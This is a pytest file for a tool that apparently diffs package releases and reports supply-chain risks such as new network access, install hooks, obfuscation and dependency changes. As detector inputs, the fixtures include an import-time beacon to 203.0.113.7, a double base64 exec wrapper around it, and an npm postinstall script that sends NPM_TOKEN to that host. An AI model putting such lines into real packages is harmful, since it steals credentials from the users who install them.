"""What a comparison promises: news is told with its severity, what only moved is quiet."""

import json

import msgspec
import pytest
from tests.judging.conftest import Compared, Members, Reported

from tidewaiter.catalogue import Catalogue
from tidewaiter.judging.compare import compare
from tidewaiter.model.changes import ChangeKind, Comparison, Severity
from tidewaiter.reports.headline import summary

CORE = """\
import urllib.request

def fetch(name):
    return urllib.request.urlopen("https://api.example.org/v1/" + name).read()

def load(path):
    with open(path) as file:
        return file.read()
"""
QUIET = "def load(path):\n    with open(path) as file:\n        return file.read()\n"
PACKAGE = {"name": "acme", "version": "{version}", "main": "index.js"}
BEACON = 'import urllib.request\nurllib.request.urlopen("http://203.0.113.7/c")\n'


def npm(**fields: object) -> str:
    return json.dumps({**PACKAGE, **fields})


def told(comparison: Comparison) -> set[tuple[str, str | None, str | None, str]]:
    return {
        (str(c.kind), c.capability, str(c.phase) if c.phase else None, str(c.severity))
        for c in comparison.changes
    }


def test_a_new_capability_at_import_opens_the_headline(
    compared: Compared, catalogue: Catalogue
) -> None:
    found = compared({"acme/core.py": QUIET}, {"acme/core.py": BEACON + QUIET})
    assert ("capability-added", "net.connect", "import", "high") in told(found)
    assert summary(found, catalogue)[0] == (
        "1.2.1 newly connects to http://203.0.113.7/c at import (acme/core.py:2); "
        "1.2.0 had no network access."
    )


def test_a_new_host_is_told_though_the_capability_is_known(
    compared: Compared, catalogue: Catalogue
) -> None:
    new = CORE.replace("api.example.org", "api.example.net")
    found = compared({"acme/core.py": CORE}, {"acme/core.py": new})
    assert told(found) == {
        ("destination-added", "net.connect", "call", "medium"),
        ("destination-removed", "net.connect", "call", "info"),
    }
    assert "newly connects to https://api.example.net/v1/" in summary(found, catalogue)[0]


def test_a_call_that_moved_to_import_is_an_escalation(compared: Compared) -> None:
    found = compared({"acme/core.py": CORE}, {"acme/core.py": CORE + 'fetch("start")\n'})
    assert ("phase-escalated", "net.connect", "import", "high") in told(found)
    assert not [c for c in found.changes if c.kind is ChangeKind.CAPABILITY_ADDED]


def test_one_more_eval_is_told(compared: Compared) -> None:
    one = "def a(text):\n    return eval(text)\n"
    found = compared(
        {"acme/core.py": one}, {"acme/core.py": one + "def b(text):\n    return exec(text)\n"}
    )
    assert told(found) == {("use-added", "code.eval", "call", "medium")}


@pytest.mark.parametrize(
    "new",
    [
        {"acme/core.py": "\n\n# a comment\n" + CORE},
        {"acme/core.py": CORE.replace("name", "resource").replace("file", "stream")},
        {"acme/client.py": CORE, "acme/core.py": "from acme.client import fetch, load\n"},
        {"acme/core.py": CORE.replace('"https://api.example.org/v1/" + name', 'BASE + name')
            + 'BASE = "https://api.example.org/v2/"\n'},
        {"acme/core.py": CORE.replace("(path) as", '(\n        path,\n        "r",\n    ) as')},
    ],
    ids=["lines", "names", "file", "address-below-a-host", "format"],
)  # fmt: skip
def test_what_only_moved_or_was_renamed_is_quiet(
    compared: Compared, catalogue: Catalogue, new: Members
) -> None:
    found = compared({"acme/core.py": CORE}, new)
    assert all(c.severity is Severity.INFO for c in found.changes), told(found)
    assert "Nothing" in summary(found, catalogue)[0]


def test_the_releases_own_version_in_a_destination_is_no_change(compared: Compared) -> None:
    code = 'def get():\n    return open("/opt/acme-{version}/data").read()\n'
    assert not compared({"acme/core.py": code}, {"acme/core.py": code}).changes


def test_code_behind_an_encoding_is_told_with_its_layers(
    compared: Compared, catalogue: Catalogue
) -> None:
    import base64

    hidden = base64.b64encode(base64.b64encode(BEACON.encode())).decode()
    code = f'import base64\nexec(base64.b64decode(base64.b64decode("{hidden}")))\n'
    found = compared({"acme/core.py": QUIET}, {"acme/core.py": code + QUIET})
    assert ("obfuscation-added", None, "import", "high") in told(found)
    said = " ".join(summary(found, catalogue)[:3])
    assert "203.0.113.7" in said
    assert "hidden in two base64 layers" in said


def test_hooks_commands_and_dependencies_of_npm(compared: Compared, catalogue: Catalogue) -> None:
    old = {"package.json": npm(dependencies={"a": "^1.0.0", "c": "1.x"}), "index.js": ""}
    new = {
        "package.json": npm(
            dependencies={"a": ">=1.0.0", "b": "1.0.0", "c": "https://example.org/c.tgz"},
            scripts={"postinstall": "node setup.js"},
            bin={"acme": "index.js"},
        ),
        "index.js": "",
        "setup.js": 'fetch("http://203.0.113.7/" + process.env.NPM_TOKEN)',
    }
    found = compared(old, new)
    assert {
        ("install-hook-added", None, "install", "high"),
        ("entry-point-added", None, "bin", "low"),
        ("dependency-added", None, None, "medium"),
        ("dependency-widened", None, None, "low"),
        ("dependency-source-changed", None, None, "high"),
        ("capability-added", "net.connect", "install", "critical"),
        ("capability-added", "secrets.env", "install", "critical"),
    } <= told(found)
    first = " ".join(summary(found, catalogue)[:2])
    assert "connects to http://203.0.113.7/" in first
    assert "at install" in first


def test_another_command_behind_a_known_hook_says_both(
    compared: Compared, catalogue: Catalogue
) -> None:
    def release(command: str) -> Members:
        return {"package.json": npm(scripts={"postinstall": command}), "index.js": ""}

    found = compared(release("node a.js"), release("node b.js"))
    said = " ".join(summary(found, catalogue))
    assert "runs another thing at install" in said
    assert "node b.js" in said
    assert "node a.js" in said


def test_of_equals_what_names_what_it_touches_is_said_first(
    compared: Compared, catalogue: Catalogue
) -> None:
    module = (
        "import socket\ndef save(name):\n    open(name, 'w')\n"
        "def ask(name):\n    socket.getaddrinfo(name + '.example.org', 80)\n"
    )
    found = compared({"acme/__init__.py": ""}, {"acme/__init__.py": module})
    assert {
        ("capability-added", "fs.write", "call", "medium"),
        ("capability-added", "net.resolve", "call", "medium"),
    } <= told(found)
    first, second = summary(found, catalogue)[:2]
    assert "asks DNS for {…}.example.org" in first
    assert "writes files" in second


def test_native_code_licence_and_bundled_libraries(compared: Compared) -> None:
    old: Members = {
        "acme/__init__.py": "",
        "acme/fast.cpython-311-x86_64-linux-gnu.so": b"\x7fELF1",
    }
    new: Members = {
        "acme/__init__.py": "",
        "acme/fast.cpython-312-x86_64-linux-gnu.so": b"\x7fELF2",
        "acme/more.so": b"\x7fELF3",
        "acme/_vendor/six.py": "",
    }
    found = compared(old, new)
    native = [c for c in found.changes if c.kind is ChangeKind.NATIVE_ADDED]
    assert [c.after for c in native] == [["acme/more.so"]]
    bundled = [c for c in found.changes if c.kind is ChangeKind.DEPENDENCY_ADDED]
    assert [c.after for c in bundled] == [{"name": "six", "range": "", "scope": "bundled"}]


def test_a_licence_is_told_by_its_own_kind(compared: Compared) -> None:
    old = {"package.json": npm(license="MIT", author="Ann"), "index.js": ""}
    new = {"package.json": npm(license="BUSL-1.1", author="Ben"), "index.js": ""}
    found = {c.kind: (c.before, c.after) for c in compared(old, new).changes}
    assert found == {
        ChangeKind.LICENCE_CHANGED: ("MIT", "BUSL-1.1"),
        ChangeKind.METADATA_CHANGED: ({"author": "Ann"}, {"author": "Ben"}),
    }


@pytest.mark.parametrize(
    ("before", "after", "changes"),
    [
        ("ann", "ben", [({"publisher": "ann"}, {"publisher": "ben"})]),
        ("ann", "ann", []),
        (None, "ben", []),
        ("ann", None, []),
    ],
)
def test_another_account_published_it(
    reported: Reported, catalogue: Catalogue, before: str | None, after: str | None, changes: object
) -> None:
    plain: Members = {"package.json": npm(), "index.js": ""}
    old, new = (
        msgspec.structs.replace(
            report, release=msgspec.structs.replace(report.release, publisher=account)
        )
        for report, account in (
            (reported("1.2.0", plain), before),
            (reported("1.2.1", plain), after),
        )
    )
    found = compare(old, new, catalogue).changes
    kind = ChangeKind.METADATA_CHANGED
    assert [(c.before, c.after) for c in found if c.kind is kind] == changes


@pytest.mark.parametrize(
    ("old", "new", "kinds"),
    [
        ("^1.2.0", "^1.2.0", set()),
        ("^1.2.0", "^1.3.0", {"dependency-narrowed"}),
        ("^1.2.0", "^1.2.0 || ^2.0.0", {"dependency-widened"}),
        ("^1.2.0", "^2.0.0", {"dependency-narrowed", "dependency-widened"}),
        ("1.2.3", "*", {"dependency-widened"}),
        ("github:a/b#1", "github:a/b#2", set()),
        ("github:a/b", "^1.0.0", {"dependency-source-changed"}),
    ],
)
def test_ranges_are_compared_by_the_versions_they_let_in(
    compared: Compared, old: str, new: str, kinds: set[str]
) -> None:
    def release(wanted: str) -> Members:
        return {"package.json": npm(dependencies={"a": wanted}), "index.js": ""}

    assert {str(c.kind) for c in compared(release(old), release(new)).changes} == kinds
